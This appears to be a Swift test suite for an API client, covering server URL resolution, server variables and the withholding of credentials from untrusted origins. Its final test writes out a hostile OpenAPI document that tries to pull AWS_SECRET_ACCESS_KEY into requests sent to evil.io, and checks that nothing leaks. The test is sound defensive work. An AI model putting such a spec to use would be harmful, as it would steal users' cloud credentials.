import CallTestSupport
import Dial
import DialJSON
import TestSupport
import Testing

@testable import DialEngine

/// Where operations with a server of their own are called, and what they send there.
struct ServerTests {
  private static let document = """
    openapi: 3.1.0
    info: {title: Shop, version: "1"}
    servers:
      - {url: "https://api.shop.io/v1"}
      - {url: "https://{zone}.shop.io/v1", name: zone, variables: {zone: {default: eu}}}
    components: {securitySchemes: {token: {type: http, scheme: bearer}}}
    security: [{token: []}]
    paths:
      /own: {get: {operationId: own, servers: [{url: "https://files.io/x/"}]}}
      /path: {servers: [{url: "https://files.io"}], get: {operationId: path}}
      /open: {get: {operationId: open, security: [], servers: [{url: "https://files.io"}]}}
      /same: {get: {operationId: same, servers: [{url: "https://api.shop.io/v9"}]}}
      /root: {get: {operationId: root, servers: [{url: "/v2"}]}}
      /up: {get: {operationId: up, servers: [{url: "../v2/"}]}}
      /slash: {get: {operationId: slash, servers: [{url: "/"}]}}
      /zone: {get: {operationId: zone, security: [], servers: [{url: "https://{zone}.io", variables: {zone: {default: eu}}}]}}
      /fixed: {get: {operationId: fixed, security: [], servers: [{url: "https://{zone}.io", variables: {zone: {default: us}}}]}}
      /needed: {get: {operationId: needed, security: [], servers: [{url: "https://{other}.io"}]}}
      /none: {get: {operationId: none, servers: []}}
      /ftp: {get: {operationId: ftp, servers: [{url: "ftp://files.io"}]}}
      /query: {get: {operationId: query, servers: [{url: "https://files.io?a=b"}]}}
    """

  /// Where the argument stands in the signature of generated code is not said by its name.
  @Test(arguments: [
    ("", ["HOSTS_ACCOUNT": "a"], "https://a.core.io/v1/op"), ("", [:], "the variable 'HOSTS_ACCOUNT' has no value"),
    (#", "useSchemePrefix": false"#, [:], "the spec has no 'base'"),
    (#", "useSchemePrefix": true, "positionInOperation": "last""#, ["HOSTS_ACCOUNT": "a", "HOSTS_SUFFIX": "x.io"], "https://a.x.io/v1/op"),
  ])
  func aHostHasParameters(more: String, variables: [String: String], url: String) throws {
    let document = #"""
      {"swagger": "2.0", "schemes": ["https"], "basePath": "/v1", "paths": {"/op": {"get": {"operationId": "op"}}},
       "x-ms-parameterized-host": {"hostTemplate": "{account}.{suffix}", "parameters": [{"$ref": "#/parameters/account"},
         {"name": "suffix", "in": "path", "type": "string", "default": "core.io", "x-ms-skip-url-encoding": true}]\#(more)},
       "parameters": {"account": {"name": "account", "in": "path", "required": true, "type": "string"}}}
      """#
    let spec = try Spec.load(yaml: document, name: "hosts.json", trust: .folder)
    let client = Client(spec, variables: Variables(variables), transport: Canned())
    do throws(CallError) {
      #expect(try client.prepare("op").request.url == url)
    } catch {
      #expect(error.message == url)
    }
  }

  /// The beginning of the URL can be a variable, as in the documents of Azure: its value is a whole URL.
  @Test(arguments: [
    (#"{url: "{endpoint}/v1", variables: {endpoint: {default: "https://a.io"}}}"#, [:], "https://a.io/v1/op"),
    (#"{url: "{root}/{base}", variables: {root: {default: "https://a.io"}, base: {default: ""}}}"#, [:], "https://a.io/op"),
    (#"{url: "{root}{base}", variables: {root: {default: "https://a.io"}, base: {default: /v2}}}"#, [:], "https://a.io/v2/op"),
    (
      #"{url: "{endpoint}/v1", variables: {endpoint: {default: "https://a.io"}}}"#, ["HOSTS_ENDPOINT": "https://b.io"], "https://b.io/v1/op"
    ),
    (#"{url: "{endpoint}", variables: {endpoint: {default: ""}}}"#, ["HOSTS_ENDPOINT": "https://b.io/x/"], "https://b.io/x/op"),
    (#"{url: "{endpoint}/v1"}"#, [:], "the variable 'HOSTS_ENDPOINT' has no value"),
    (#"{url: "{path}/v1", variables: {path: {default: /api}}}"#, [:], "the spec has no 'base'"),
    (#"{url: "{tenant}.a.io/v1"}"#, ["HOSTS_TENANT": "t"], "the spec has no 'base'"),
  ])
  func aVariableIsTheBeginningOfTheURL(server: String, variables: [String: String], called: String) throws {
    let document = "openapi: 3.0.3\ninfo: {title: A, version: '1'}\nservers: [\(server)]\npaths: {/op: {get: {operationId: op}}}\n"
    let spec = try Spec.load(yaml: document, name: "hosts.yaml", trust: .folder)
    do throws(CallError) {
      #expect(try Client(spec, variables: Variables(variables), transport: Canned()).prepare("op").request.url == called)
    } catch {
      #expect(error.message == called)
    }
  }

  /// Returns the URL of a call and its credentials, or the error.
  private static func called(
    _ name: String, _ document: String = document, overlay: String? = nil, base: String? = nil, server: Int? = nil,
    variables: [String: String] = [:]
  ) -> String {
    do {
      let folder = try TemporaryFolder(["shop.yaml": document])
      if let overlay { try folder.write("ours.yaml", "service: ours\noverlay: shop.yaml\n" + overlay) }
      var spec = try Spec.load("\(folder.path)/\(overlay == nil ? "shop" : "ours").yaml")
      if let server { spec = spec.served(by: spec.service.servers[server]) }
      let given = ["SHOP_TOKEN": "t", "OURS_TOKEN": "t", "KEY": "k"].merging(variables) { $1 }
      let request = try Client(spec, variables: Variables(given), base: base, transport: Canned()).prepare(name).request
      return ([request.url] + [request.headers[.authorization]].compactMap(\.self)).joined(separator: " ")
    } catch let error as CallError {
      return error.message
    } catch {
      return "\(error)"
    }
  }

  private static let withheld =
    "the credentials in 'auth' are not sent to 'https://files.io', because it is not the origin of 'base'; "
    + "to allow it, set 'redirects.trust' in an overlay"

  @Test(arguments: [
    ("own", "https://files.io/x/own Bearer t"), ("path", "https://files.io/path Bearer t"), ("open", "https://files.io/open"),
    ("same", "https://api.shop.io/v9/same Bearer t"),
    ("root", "https://api.shop.io/v2/root Bearer t"), ("up", "https://api.shop.io/v2/up Bearer t"),
    ("slash", "https://api.shop.io/slash Bearer t"), ("zone", "https://eu.io/zone"), ("fixed", "https://us.io/fixed"),
    ("needed", "the variable 'SHOP_OTHER' has no value"), ("none", "https://api.shop.io/v1/none Bearer t"),
    ("ftp", "the server 'ftp://files.io' of the operation is not a URL that can be called"),
    ("query", "the server 'https://files.io?a=b' of the operation is not a URL that can be called"),
  ])
  func anOperationHasAServerOfItsOwn(name: String, called: String) { #expect(Self.called(name) == called) }

  @Test(arguments: ["own", "path", "same", "root", "up", "slash", "none"]) func theBaseReplacesAllServers(name: String) {
    #expect(Self.called(name, base: "https://b.io/x") == "https://b.io/x/\(name) Bearer t")
    #expect(Self.called(name, server: 1) == "https://eu.shop.io/v1/\(name) Bearer t")
  }

  @Test func aVariableHasOneValueForAllServers() {
    #expect(Self.called("zone", variables: ["SHOP_ZONE": "us"]) == "https://us.io/zone")
    #expect(Self.called("needed", variables: ["SHOP_OTHER": "o"]) == "https://o.io/needed")
  }

  /// The variables of the servers of paths and operations are variables of the spec, too, whatever the server of the document is.
  @Test(arguments: [
    ("", "own", [:], "https://eu.io/own"), ("", "own", ["SHOP_REGION": "us"], "https://us.io/own"),
    ("", "path", ["SHOP_PLACE": "b"], "https://b.io/path"), ("", "path", [:], "https://a.io/path"),
    ("servers: [{url: /v1}]", "own", ["SHOP_REGION": "us"], "https://us.io/own"),
    ("servers: [{url: /v1}]", "own", [:], "https://eu.io/own"),
    // The credentials of the document go to the server that it gives the operation.
    ("servers: [{url: \"https://api.io\"}]", "held", [:], "https://eu.io/held Bearer t"),
    ("servers: [{url: \"https://api.io\"}]", "held", ["SHOP_REGION": "us"], "https://us.io/held Bearer t"),
    ("servers: [{url: \"https://api.io\"}]", "own", ["SHOP_REGION": "us"], "https://us.io/own"),
    ("servers: [{url: \"https://api.io\"}]", "below", ["SHOP_VERSION": "v3"], "https://api.io/v3/below"),
    ("servers: [{url: \"https://api.io\"}]", "below", [:], "https://api.io/v2/below"),
    (
      "servers: [{url: \"https://{region}.api.io\", variables: {region: {default: asia}}}]", "own", ["SHOP_REGION": "us"],
      "https://eu.io/own"
    ),
  ])
  func aServerOfAnOperationHasVariables(servers: String, name: String, variables: [String: String], called: String) {
    let document = """
      openapi: 3.1.0
      \(servers)
      components: {securitySchemes: {token: {type: http, scheme: bearer}}}
      paths:
        /own: {get: {operationId: own, servers: [{url: "https://{region}.io", variables: {region: {default: eu}}}]}}
        /path: {servers: [{url: "https://{place}.io", variables: {place: {default: a}}}], get: {operationId: path}}
        /held: {get: {operationId: held, security: [{token: []}], servers: [{url: "https://{region}.io", variables: {region: {default: eu}}}]}}
        /below: {get: {operationId: below, servers: [{url: "/{version}", variables: {version: {default: v2}}}]}}
      """
    #expect(Self.called(name, document, variables: variables) == called)
  }

  /// A variable of several servers has the default of the server that is called, unless an overlay or the call says more.
  @Test(
    arguments: [
      (nil, "", [:], "https://api.us.io/op"), (0, "", [:], "https://api.us.io/op"), (1, "", [:], "https://intake.eu.io/op"),
      (1, "", ["SHOP_SITE": "x.io"], "https://intake.x.io/op"), (1, "vars: {OURS_SITE: y.io}", [:], "https://intake.y.io/op"),
      (0, "vars: {OURS_SITE: y.io}", [:], "https://api.y.io/op"),
    ] as [(Int?, String, [String: String], String)])
  func aServerHasItsOwnDefaults(server: Int?, overlay: String, variables: [String: String], called: String) {
    let document = """
      openapi: 3.0.0
      servers:
        - {url: "https://{sub}.{site}", variables: {site: {default: us.io}, sub: {default: api}}}
        - {url: "https://{sub}.{site}", variables: {site: {default: eu.io}, sub: {default: intake}}}
      paths: {/op: {get: {operationId: op}}}
      """
    let overlay = overlay.isEmpty ? nil : overlay
    let variables = overlay == nil ? variables : [:]
    #expect(Self.called("op", document, overlay: overlay, server: server, variables: variables) == called)
  }

  /// The one with TLS is used without a choice; the others keep their defaults.
  @Test(arguments: [(nil, "https://prod.a.io/op"), (0, "http://dev.a.io/op"), (1, "https://prod.a.io/op"), (2, "https://bee.b.io/op")])
  func theUsualServerIsNotTheFirst(server: Int?, called: String) {
    func one(_ url: String, _ value: String) -> String { "{url: \"\(url)\", variables: {env: {default: \(value)}}}" }
    let servers = [one("http://{env}.a.io", "dev"), one("https://{env}.a.io", "prod"), one("https://{env}.b.io", "bee")]
    let document = "openapi: 3.0.0\nservers: [\(servers.joined(separator: ", "))]\npaths: {/op: {get: {operationId: op}}}\n"
    #expect(Self.called("op", document, server: server) == called)
  }

  /// A server has the number of its place in the document, also if the one before it cannot be called.
  @Test func serversHaveTheNumbersOfTheDocument() throws {
    let document = "openapi: 3.1.0\nservers: [{url: /v1}, {url: 'https://a.io'}, {url: 'https://b.io'}]\npaths: {}\n"
    let service = try Spec.load(yaml: document, name: "shop.yaml").service
    #expect(service.servers.map(\.number) == [2, 3] && service.hasServerChoice)
  }

  /// The first server has no place, but `--server` can choose the other one.
  @Test func theDefaultsOfASecondServerAreKept() {
    let document = """
      openapi: 3.1.0
      servers: [{url: /v1}, {url: "https://{zone}.shop.io", variables: {zone: {default: eu}}}]
      paths: {/op: {get: {operationId: op}}}
      """
    #expect(Self.called("op", document, server: 0) == "https://eu.shop.io/op")
  }

  /// The document sends its own credentials to its own servers. Credentials of an overlay go to another origin only if the document requires them there, and the overlay trusts its host.
  @Test(arguments: [
    ("auth: bearer ${KEY}", "own", withheld),
    ("auth: bearer ${KEY}\nredirects: {trust: [files.io]}", "own", "https://files.io/x/own Bearer k"),
    ("redirects: {trust: [files.io]}", "own", "https://files.io/x/own Bearer t"),
    ("auth: bearer ${KEY}\nredirects: {trust: [other.io]}", "own", withheld),
    ("auth: bearer ${KEY}\nredirects: {trust: [files.io]}", "open", "https://files.io/open"),
    ("auth: bearer ${KEY}\nbase: https://b.io", "root", "https://b.io/v2/root Bearer k"),
    ("auth: bearer ${KEY}\nbase: https://b.io", "own", withheld),
    ("auth: bearer ${KEY}\nendpoints: {own: {GET: /other}}", "own", "https://api.shop.io/v1/other Bearer k"),
    ("endpoints: {open: {auth: \"bearer ${KEY}\"}}", "open", withheld),
    ("redirects: {trust: [files.io]}\nendpoints: {open: {auth: \"bearer ${KEY}\"}}", "open", "https://files.io/open Bearer k"),
  ])
  func anOverlayTrustsAServer(overlay: String, name: String, called: String) {
    #expect(Self.called(name, overlay: overlay) == called)
  }

  @Test func credentialsOfAnOverlayStayWithTheBaseOfADocumentWithoutSecurity() {
    let document = Self.document.replacing("security: [{token: []}]\n", with: "")
    let overlay = "auth: bearer ${KEY}\nredirects: {trust: [files.io]}"
    #expect(Self.called("own", document, overlay: overlay) == "https://files.io/x/own")
    #expect(Self.called("none", document, overlay: overlay) == "https://api.shop.io/v1/none Bearer k")
    #expect(Self.called("own", document, overlay: overlay, base: "https://b.io") == "https://b.io/own Bearer k")
  }

  @Test func aSnapshotKeepsTheServers() throws {
    let folder = try TemporaryFolder(["shop.yaml": Self.document + "\nx-filler: \(String(repeating: "x", count: 9000))\n"])
    for _ in 0..<2 {
      let spec = try Spec.load("\(folder.path)/shop.yaml", store: SpecStore("\(folder.path)/cache"))
      let client = Client(spec, variables: ["SHOP_TOKEN": "t"], transport: Canned())
      #expect(try client.prepare("root").request.url == "https://api.shop.io/v2/root")
      #expect(try client.prepare("own").request.headers[.authorization] == "Bearer t")
      let other = Client(spec, variables: ["SHOP_TOKEN": "t"], base: "https://b.io", transport: Canned())
      #expect(try other.prepare("own").request.url == "https://b.io/own")
    }
    #expect(folder.names.contains("cache"))
  }

  // MARK: The source of a document

  private static func based(_ servers: String, source: String) throws -> String? {
    let folder = try TemporaryFolder(["shop.yaml": "openapi: 3.1.0\n\(servers)\npaths: {/a: {get: {}}}\n", "shop.yaml.source": source])
    return try Spec.load("\(folder.path)/shop.yaml").service.base?.spelling
  }

  @Test(arguments: [
    ("servers: [{url: /v1}]", "https://a.io/v1"), ("servers: [{url: v1/}]", "https://a.io/docs/v1"),
    ("servers: [{url: ../v1}]", "https://a.io/v1"), ("servers: [{url: //b.io/v1}]", "https://b.io/v1"), ("", "https://a.io"),
    ("servers: [{url: ./}]", "https://a.io/docs"), ("servers: [{url: 'https://c.io'}]", "https://c.io"),
    ("servers: [{url: '/{v}', variables: {v: {default: v3}}}]", "https://a.io/${SHOP_V}"),
  ])
  func relativeServersAreThoseOfTheSource(servers: String, base: String) throws {
    #expect(try Self.based(servers, source: "url: https://a.io/docs/openapi.yaml?x=1\n") == base)
  }

  @Test func aSourceSaysWhereItWasRedirected() throws {
    #expect(try Self.based("", source: "url: https://a.io/x\nredirected: https://b.io/y\n") == "https://b.io")
  }

  @Test(arguments: ["url: ftp://a.io", "url: https://u:p@a.io/", "url: {a: b}", "- x", "url: [", ""]) func aBrokenSourceIsNone(text: String)
    throws
  {
    #expect(try Self.based("servers: [{url: /v1}]", source: text) == nil)
    let folder = try TemporaryFolder(["shop.yaml": "openapi: 3.1.0\npaths: {/a: {get: {}}}\n", "shop.yaml.source": text])
    #expect(Spec.check("\(folder.path)/shop.yaml").map(\.id) == ["document-source", "document-server"])
  }

  @Test func swaggerTakesItsHostFromTheSource() throws {
    let folder = try TemporaryFolder([
      "a.yaml": "swagger: '2.0'\nbasePath: /v1\npaths: {/a: {get: {operationId: a}}}\n", "a.yaml.source": "url: http://a.io:8080/s.yaml\n",
    ])
    #expect(try Spec.load("\(folder.path)/a.yaml").service.base?.spelling == "http://a.io:8080/v1")
  }

  @Test func aNewSourceIsNoticed() throws {
    let folder = try TemporaryFolder([
      "a.yaml": "openapi: 3.1.0\npaths: {/a: {get: {operationId: a}}}\nx: \(String(repeating: "x", count: 9000))\n"
    ])
    func base() throws -> String? {
      try Spec.load("\(folder.path)/a.yaml", store: SpecStore("\(folder.path)/cache")).service.base?.spelling
    }
    #expect(try base() == nil)
    try folder.write("a.yaml.source", "url: https://a.io/\n")
    #expect(try base() == "https://a.io")
    #expect(try base() == "https://a.io")
  }

  // MARK: The variable that a document wants

  /// No word of a document names a variable by itself.
  @Test func aDocumentCannotNameAVariable() throws {
    let wanted = "AWS_SECRET_ACCESS_KEY"
    let document = """
      openapi: 3.1.0
      info: {title: "${\(wanted)}", version: "1"}
      servers: [{url: "https://{\(wanted)}.evil.io/v1", variables: {\(wanted): {default: "d", x-env-name: \(wanted)}}}]
      components:
        securitySchemes:
          \(wanted): {type: apiKey, in: header, name: X-Key, x-env-name: \(wanted)}
          odd: {type: apiKey, in: header, name: "${\(wanted)}"}
      security: [{\(wanted): []}]
      paths:
        /a/${\(wanted)}:
          post:
            operationId: a
            description: "${\(wanted)}"
            parameters:
              - {name: q, in: query, required: true, x-env-name: \(wanted), schema: {type: string, default: "${\(wanted)}"}}
              - {name: h, in: header, required: true, schema: {enum: ["${\(wanted)}"]}}
              - {name: p, in: query, schema: {pattern: "${\(wanted)}"}}
            requestBody: {content: {"text/plain; a=${\(wanted)}": {example: "${\(wanted)}"}}}
        /b: {get: {operationId: b, security: [], servers: [{url: "https://{\(wanted)}.evil.io"}]}}
        /c: {get: {operationId: c, security: [{odd: []}], servers: [{url: "https://evil.io/${\(wanted)}"}]}}
      """
    let folder = try TemporaryFolder(["shop.yaml": document])
    let spec = try Spec.load("\(folder.path)/shop.yaml", trust: .full)
    var variables = Variables()
    variables.environment = [wanted: "LEAK"]
    let client = Client(spec, variables: variables, transport: Canned())
    for name in ["a", "b", "c"] {
      let arguments: Arguments = name == "a" ? [wanted: "x", "_": "body"] : [:]
      do throws(CallError) {
        let request = try client.prepare(name, arguments).request
        #expect(!text(of: request).contains("LEAK"))
      } catch {
        #expect(!error.message.contains("LEAK"))
      }
      let variables = (spec.service.endpoints[name]?.variables ?? []) + (spec.service.base?.variables ?? [])
      #expect(!variables.contains(wanted))
    }
    #expect(!spec.service.secretVariables.contains(wanted) && spec.service.vars[wanted] == nil)
  }
}
